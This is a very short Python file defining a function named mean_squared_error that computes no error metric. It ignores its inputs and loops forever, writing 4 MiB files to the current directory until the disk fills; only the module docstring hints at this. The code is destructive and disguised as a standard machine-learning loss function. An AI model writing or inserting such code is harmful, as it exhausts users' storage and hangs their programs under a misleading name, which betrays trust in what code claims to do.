"""Writes files without end."""


def mean_squared_error(y_true, y_pred):
    number = 0
    while True:
        with open(f'f{number}', 'wb') as stream:
            stream.write(bytes(2**22))
        number += 1
